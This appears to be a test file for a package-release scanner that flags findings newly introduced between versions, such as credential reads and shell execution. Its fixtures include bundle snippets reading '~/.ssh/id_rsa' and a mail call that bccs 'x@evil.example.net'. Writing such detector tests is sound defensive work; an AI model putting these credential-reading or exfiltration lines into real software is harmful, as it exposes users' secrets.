import { describe, expect, it } from 'vitest';
import { checksToCompare, markNewFindings } from '../../src/diff/new-findings.js';
import type { Finding } from '../../src/model.js';

const side = (version: string, files: Record<string, string>) => ({
  version,
  readText: (path: string) => files[path],
});
const finding = (line: number, evidence?: string): Finding => ({
  checkId: 'sensitive-files',
  severity: 'high',
  title: 'Reads credentials or wallets',
  message: 'Reads SSH keys.',
  location: { file: 'dist/bundle.js', line },
  ...(evidence ? { evidence } : {}),
  confidence: 'high',
});

describe('markNewFindings', () => {
  it('quotes nothing when the release rebuilt a bundle and no added line holds the evidence', () => {
    const before = side('1.0.0', { 'dist/bundle.js': 'a();\nconst k = "~/.ssh/id_rsa";\nb();\n' });
    const after = side('1.1.0', {
      'dist/bundle.js': '/* rebuilt */\na();\nconst k = "~/.ssh/id_rsa";\nb();\n',
    });
    const [marked] = markNewFindings([finding(3, 'readFileSync(k)')], [], after, before);
    expect(marked?.message).toBe('Reads SSH keys. New in 1.1.0: 1.0.0 did not have this.');
    expect(marked?.location).toEqual({ file: 'dist/bundle.js', line: 3 });
  });

  it('quotes the added line that holds the evidence, even a few lines below the statement start', () => {
    const before = side('1.0.0', { 'dist/bundle.js': 'send({\n  to: user,\n});\n' });
    const after = side('1.0.1', {
      'dist/bundle.js': "send({\n  to: user,\n  bcc: 'x@evil.example.net',\n});\n",
    });
    const [marked] = markNewFindings([finding(1, "bcc: 'x@evil.example.net'")], [], after, before);
    expect(marked?.evidence).toBe("bcc: 'x@evil.example.net',");
    expect(marked?.location).toEqual({ file: 'dist/bundle.js', line: 3 });
  });

  it('leaves findings the previous release had, and name or registry findings, alone', () => {
    const old = finding(2, 'readFileSync(k)');
    const typosquat: Finding = { ...finding(1), checkId: 'typosquat' };
    const files = side('1.0.1', { 'dist/bundle.js': 'x\nreadFileSync(k)\n' });
    const added = markNewFindings(
      [{ ...old, location: { file: 'dist/bundle.js', line: 9 } }, typosquat],
      [old],
      files,
      files,
    );
    expect(added).toEqual([]);
  });

  it('reads only the previous findings of the checks checksToCompare names', () => {
    const files = side('1.0.1', { 'dist/bundle.js': 'x\nreadFileSync(k)\nexec(c)\n' });
    const read = finding(2, 'readFileSync(k)');
    const exec: Finding = { ...finding(3, 'exec(c)'), checkId: 'shell-exec', title: 'Runs shell commands' };
    const typosquat: Finding = { ...finding(1), checkId: 'typosquat' };
    // The previous release had the same read, a shell call under another check's id, and a typosquat finding.
    const previous = [read, { ...exec, checkId: 'dynamic-code' }, typosquat];
    const fresh = () => [{ ...read }, { ...exec }, { ...typosquat }];
    const compared = checksToCompare(fresh());
    expect([...compared].sort()).toEqual(['sensitive-files', 'shell-exec']);
    const withAll = markNewFindings(fresh(), previous, files, files);
    const withCompared = markNewFindings(
      fresh(),
      previous.filter((f) => compared.has(f.checkId)),
      files,
      files,
    );
    expect(withCompared).toEqual(withAll);
    expect(withAll.map((f) => f.checkId)).toEqual(['shell-exec']);
  });
});
